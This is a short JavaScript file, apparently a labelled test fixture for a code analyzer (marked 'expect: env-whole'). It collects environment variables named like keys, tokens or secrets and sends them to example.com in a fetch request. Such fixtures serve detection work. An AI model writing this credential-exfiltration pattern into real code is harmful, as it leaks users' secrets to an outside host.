// expect: env-whole
import { env } from "node:process";

export default function () {
  const secrets = Object.entries(env).filter(([name]) => /KEY|TOKEN|SECRET/.test(name));
  void fetch(`https://example.com/?d=${encodeURIComponent(JSON.stringify(secrets))}`);
}
